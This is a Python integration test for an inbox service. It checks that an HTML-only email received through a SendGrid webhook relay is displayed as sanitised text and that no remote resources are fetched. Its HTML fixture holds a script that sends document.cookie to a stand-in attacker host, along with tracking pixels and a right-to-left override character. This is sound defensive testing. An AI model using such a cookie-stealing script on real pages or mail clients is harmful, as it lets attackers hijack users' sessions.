"""An HTML-only email, through the relay and ingest with the real SendGrid adapter: the thread
shows sanitised text; scripts, styles and remote images are neither shown nor fetched."""

from __future__ import annotations

import base64
import json

import aiohttp
from sqlalchemy import select

from core.domain.enums import Provider
from core.service import InboxService
from core.storage import tables as t
from tests.integration.relay.test_end_to_end import world_for

HTML = """<html><head><style>p{background:url(https://track.example/bg.gif)}</style>
<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
<body><p>Bonjour,</p><p>Le <a href="https://agence.example/t3">T3</a> m'intéresse.</p>
<img src="https://cdn.example/facade.jpg" alt="Façade">
<img src="https://track.example/open.gif?u=42" width="1" height="1">
<p>\u202eCordialement</p></body></html>"""


async def test_an_html_only_email_is_shown_as_sanitised_text(service: InboxService) -> None:
    from providers.sandbox.sendgrid_api import multipart

    async for world in world_for(service, Provider.TWILIO):
        box = world.sandbox
        fields = {
            "headers": "From: Marie <marie@example.fr>\r\nSubject: T3\r\nMessage-ID: <h1@x>\r\n",
            "from": "Marie <marie@example.fr>",
            "to": box.sendgrid.from_email,
            "subject": "T3",
            "html": HTML,
            "envelope": json.dumps({"to": [box.sendgrid.from_email], "from": "marie@example.fr"}),
            "charsets": json.dumps({"html": "utf-8", "subject": "utf-8", "from": "utf-8"}),
            "attachments": "0",
        }
        body = multipart("xYzZY", [(k, v.encode(), None, None) for k, v in fields.items()])
        secret = box.credentials["sendgrid"]["inbound_secret"]
        headers = {
            "Content-Type": "multipart/form-data; boundary=xYzZY",
            "Authorization": "Basic " + base64.b64encode(f"inbound:{secret}".encode()).decode(),
        }
        requests_before = len(box.received)
        async with (
            aiohttp.ClientSession() as http,
            http.post(
                world.relay_url + "/webhooks/sendgrid/inbound", data=body, headers=headers
            ) as answer,
        ):
            assert answer.status == 200, await answer.text()
        await world.worker.run_once()

        async with service.db.session() as session:
            row = (
                await session.execute(select(t.MessageRow).where(t.MessageRow.subject == "T3"))
            ).scalar_one()
        thread = await service.conversations.thread(row.conversation_id)
        shown = thread.messages[-1].content
        assert "Bonjour," in shown and "T3 (https://agence.example/t3) m'intéresse." in shown
        assert "[image: Façade]" in shown and "Cordialement" in shown
        for gone in ("fetch", "cookie", "background", "track.example", "cdn.example", "\u202e"):
            assert gone not in shown
        assert row.meta["html"] == HTML  # kept as received, never rendered
        assert len(box.received) == requests_before  # nothing fetched from anywhere
